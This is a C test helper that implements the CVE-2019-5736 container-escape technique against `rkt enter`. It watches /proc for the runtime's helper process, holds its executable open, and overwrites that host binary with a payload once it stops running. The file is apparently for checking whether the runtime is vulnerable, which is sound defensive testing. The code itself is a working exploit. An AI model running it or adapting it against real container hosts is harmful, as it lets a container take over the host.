/*
 * exe-hijack: a hostile app for the tests (CVE-2019-5736, as it would be tried against `rkt enter`).
 *
 *   exe-hijack LOG PAYLOAD
 *
 * Run inside a pod as root with CAP_SYS_PTRACE. Watches /proc for processes new to the pod whose program is
 * not the pod's own (busybox, or this one): the helper `rkt enter` forks into the pod, before it execs the
 * command. It keeps each one's /proc/PID/exe open and, once nothing executes that file any more (ETXTBSY
 * ends), reopens it for writing through /proc/self/fd and replaces it with PAYLOAD. Each step goes to LOG,
 * one line each: "caught EXE", then "rewrote EXE" or "refused EXE: ERROR". Runs until killed.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define MAX_HELD 64

static struct {
  int fd;
  char exe[PATH_MAX];
} held[MAX_HELD];
static int nheld;
static char seen[1 << 16];

static void say(FILE *log, const char *what, const char *exe, const char *err) {
  fprintf(log, err ? "%s %s: %s\n" : "%s %s\n", what, exe, err);
  fflush(log);
}

int main(int argc, char **argv) {
  if (argc != 3) return fprintf(stderr, "usage: exe-hijack LOG PAYLOAD\n"), 2;
  FILE *log = fopen(argv[1], "a");
  int pfd = open(argv[2], O_RDONLY);
  char payload[4096];
  ssize_t plen = pfd < 0 ? -1 : read(pfd, payload, sizeof payload);
  if (!log || plen <= 0) return perror("exe-hijack"), 2;
  struct stat self, busybox;
  if (stat("/proc/self/exe", &self) < 0 || stat("/bin/busybox", &busybox) < 0) return perror("exe-hijack"), 2;
  for (;;) {
    DIR *d = opendir("/proc");
    for (struct dirent *e; d && (e = readdir(d));) {
      int pid = atoi(e->d_name);
      if (pid <= 0 || pid >= (int)sizeof seen || seen[pid] || nheld == MAX_HELD) continue;
      char link[64], exe[PATH_MAX];
      snprintf(link, sizeof link, "/proc/%d/exe", pid);
      int fd = open(link, O_RDONLY | O_CLOEXEC);
      if (fd < 0) continue; /* a kernel thread, or gone: try again next round */
      seen[pid] = 1;
      struct stat st;
      ssize_t n = readlink(link, exe, sizeof exe - 1);
      if (fstat(fd, &st) < 0 || n < 0 || (st.st_ino == self.st_ino && st.st_dev == self.st_dev) ||
          (st.st_ino == busybox.st_ino && st.st_dev == busybox.st_dev)) {
        close(fd);
        continue;
      }
      exe[n] = '\0';
      held[nheld].fd = fd;
      snprintf(held[nheld].exe, sizeof held[nheld].exe, "%s", exe);
      nheld++;
      say(log, "caught", exe, NULL);
    }
    if (d) closedir(d);
    for (int i = 0; i < nheld; i++) {
      if (held[i].fd < 0) continue;
      char path[64];
      snprintf(path, sizeof path, "/proc/self/fd/%d", held[i].fd);
      int w = open(path, O_WRONLY | O_TRUNC);
      if (w < 0 && errno == ETXTBSY) continue; /* still running: later */
      if (w < 0 || write(w, payload, (size_t)plen) != plen) say(log, "refused", held[i].exe, strerror(errno));
      else say(log, "rewrote", held[i].exe, NULL);
      if (w >= 0) close(w);
      close(held[i].fd);
      held[i].fd = -1;
    }
  }
}
